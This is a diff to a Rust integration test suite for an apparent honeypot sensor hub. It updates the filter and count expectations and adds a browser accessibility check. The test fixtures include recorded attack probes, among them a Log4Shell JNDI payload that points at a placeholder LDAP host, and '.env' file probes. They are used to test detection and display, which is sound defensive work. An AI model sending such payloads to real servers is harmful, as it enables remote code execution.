@@ -4,8 +4,9 @@ use std::path::Path;
 
 use anyhow::{Context, ensure};
 use forever200_ring::{Counts, Ended, Record, Sent, Store, Via};
+use forever200_testkit::browser::{LAPTOP, PHONE, Visitor};
 use forever200_testkit::process::project;
-use forever200_testkit::{Stack, get, get_json, until};
+use forever200_testkit::{Browser, Stack, get, get_json, until};
 use jiff::{SignedDuration, Timestamp};
 use serde_json::Value;
 use tempfile::TempDir;
@@ -16,11 +17,13 @@ const ERA_TEXT: &str = "2026-01-02T03:04:05.000006Z";
 /// A version as a sensor in a stranger's hands may say it.
 const ODD_VERSION: &str = "<b>\u{202e}1.0";
 
+/// The longest name that a sensor can have.
+const LONG: &str = "a-name-of-forty-characters-in-a-rack-of-";
 /// Sent by whom, with which number there, and what.
 const SENT: [(&str, u64, &str); 6] = [
     ("berlin-1", 41, "GET /.env"),
     ("lima", 7, "GET /.env"),
-    ("berlin-1", 42, "GET /x?x=${jndi:ldap://192.0.2.66/a}"),
+    (LONG, 42, "GET /x?x=${jndi:ldap://192.0.2.66/a}"),
     ("", 0, "GET /here"),
     ("oslo", 1, "GET /.env"),
     ("oslo", 5, "GET /nothing-known"),
@@ -176,10 +179,14 @@ async fn lists_are_filtered_by_sensor_in_the_ring_and_in_the_history() -> anyhow
     send(&stack).await?;
     for path in ["/home/api/requests", "/home/api/history"] {
         for (query, wanted) in [
-            ("sensor=berlin-1", &[3, 1][..]),
-            ("sensor=BERLIN-1&path=/x", &[3]),
+            ("sensor=berlin-1", &[1][..]),
+            ("sensor=OSLO&path=/no", &[6]),
+            ("sensor=oslo", &[6, 5]),
             ("-sensor=oslo", &[4, 3, 2, 1]),
-            ("-sensor=oslo&-sensor=berlin-1&-sensor=lima", &[4]),
+            (
+                "-sensor=oslo&-sensor=berlin-1&-sensor=lima&path=/here",
+                &[4],
+            ),
             ("sensor=oslo&sensor=lima", &[]),
             ("sensor=nobody", &[]),
         ] {
@@ -219,7 +226,7 @@ async fn the_sensors_have_a_page_and_kinds_and_sources_say_who_saw_them() -> any
     let list = get_json(stack.front(), "/home/api/sensors?sort=missing").await?;
     holds("sensors.schema.json", "", &list)?;
     let counts = ["total", "silent", "requests", "missing"].map(|it| list[it].as_u64());
-    assert_eq!(counts, [Some(3), Some(0), Some(5), Some(3)]);
+    assert_eq!(counts, [Some(4), Some(0), Some(5), Some(3)]);
     assert_eq!(list["sensors"][0]["sensor"], "oslo");
     let heard: Timestamp = list["sensors"][0]["heard"]
         .as_str()
@@ -230,7 +237,7 @@ async fn the_sensors_have_a_page_and_kinds_and_sources_say_who_saw_them() -> any
         "{list}"
     );
     let sensors = page(&stack, "/home/sensors?sort=name").await?;
-    ensure!(sensors.contains("<b>3</b> machines send here"), "{sensors}");
+    ensure!(sensors.contains("<b>4</b> machines send here"), "{sensors}");
     ensure!(sensors.contains("&lt;b&gt;\\u{202e}1.0"), "{sensors}");
     for (path, status) in [
         ("/home/sensors?sort=x", 400),
@@ -251,25 +258,28 @@ async fn the_sensors_have_a_page_and_kinds_and_sources_say_who_saw_them() -> any
     };
     assert_eq!(
         seen("dotenv-file"),
-        Some(&serde_json::json!({ "sensors": 3, "of": 3 }))
+        Some(&serde_json::json!({ "sensors": 3, "of": 4 }))
     );
     assert_eq!(
         seen("log4shell"),
-        Some(&serde_json::json!({ "sensors": 1, "of": 3 }))
+        Some(&serde_json::json!({ "sensors": 1, "of": 4 }))
     );
     let source = get_json(stack.front(), "/home/api/sources/203.0.113.7").await?;
     holds("sources.schema.json", "source", &source)?;
     assert_eq!(
         source["seen_by"],
-        serde_json::json!({ "sensors": 3, "of": 3 })
+        serde_json::json!({ "sensors": 4, "of": 4 })
     );
-    for path in ["/home/collection/dotenv-file", "/home/sources/203.0.113.7"] {
+    for (path, told) in [
+        ("/home/collection/dotenv-file", "3 of 4 sensors"),
+        ("/home/sources/203.0.113.7", "4 of 4 sensors"),
+    ] {
         let page = page(&stack, path).await?;
-        ensure!(page.contains("3 of 3 sensors"), "{path}: {page}");
+        ensure!(page.contains(told), "{path}: {page}");
     }
     for path in ["/home/collection", "/home/sources"] {
         let page = page(&stack, path).await?;
-        ensure!(page.contains("Of 3 sensors"), "{path}: {page}");
+        ensure!(page.contains("Of 4 sensors"), "{path}: {page}");
     }
     Ok(())
 }
@@ -307,7 +317,69 @@ async fn what_is_hidden_stays_hidden_at_a_hub() -> anyhow::Result<()> {
         let named = numbers(&stack, &format!("{path}?sensor=berlin-1")).await?;
         assert_eq!(named, [0; 0]);
         let hidden = numbers(&stack, &format!("{path}?sensor=hidden")).await?;
-        assert_eq!(hidden, [3, 1]);
+        assert_eq!(hidden, [1]);
+    }
+    Ok(())
+}
+
+#[tokio::test(flavor = "multi_thread")]
+#[ignore = "needs Chromium: make test-browser"]
+async fn the_pages_of_a_hub_suit_everyone() -> anyhow::Result<()> {
+    let folder = TempDir::new()?;
+    let stack = start(folder.path(), &[]).await?;
+    send(&stack).await?;
+    let axe = "crates/testkit/browser/node_modules/axe-core/axe.min.js";
+    let axe = std::fs::read_to_string(project().join(axe))
+        .context("no axe: npm ci --prefix crates/testkit/browser")?;
+    let check = "const done = arguments[arguments.length - 1];
+        axe.run(document, { resultTypes: ['violations'], rules: { 'target-size': { enabled: true } } }).then(({ violations }) =>
+            done(violations.map((found) => [found.id, found.impact, found.nodes.map((node) => node.html)])))";
+    let visitors = [
+        LAPTOP,
+        PHONE,
+        Visitor {
+            dark: true,
+            ..LAPTOP
+        },
+        Visitor {
+            dark: false,
+            ..PHONE
+        },
+    ];
+    for visitor in visitors {
+        let browser = Browser::start(visitor).await?;
+        for page in [
+            "/home",
+            "/home/history?sensor=berlin-1&-sensor=lima",
+            "/home/requests/1",
+            "/home/sensors",
+            "/home/sensors?page=7",
+            "/home/collection",
+            "/home/collection/dotenv-file",
+            "/home/sources",
+            "/home/sources/203.0.113.7",
+        ] {
+            browser
+                .open(&format!("http://{}{page}", stack.front()))
+                .await?;
+            let is_wide = "return document.documentElement.scrollWidth > innerWidth";
+            assert_eq!(browser.run(is_wide).await?, false, "{page}, {visitor:?}");
+            browser.run(&axe).await?;
+            let found = browser.client.execute_async(check, Vec::new()).await?;
+            assert_eq!(found, Value::Array(vec![]), "{page}, {visitor:?}");
+        }
+        let shown = "const cells = [...document.querySelectorAll('td.sensor a')];
+            return cells.filter((it) => it.checkVisibility()).map((it) => it.textContent)";
+        browser
+            .open(&format!("http://{}/home?-path=/.env", stack.front()))
+            .await?;
+        let names = serde_json::json!(["oslo", LONG]);
+        assert_eq!(browser.run(shown).await?, names, "{visitor:?}");
+        browser
+            .open(&format!("http://{}/home?path=/here", stack.front()))
+            .await?;
+        let head = "return document.querySelector('th.sensor').checkVisibility()";
+        assert_eq!(browser.run(head).await?, false, "{visitor:?}");
     }
     Ok(())
 }
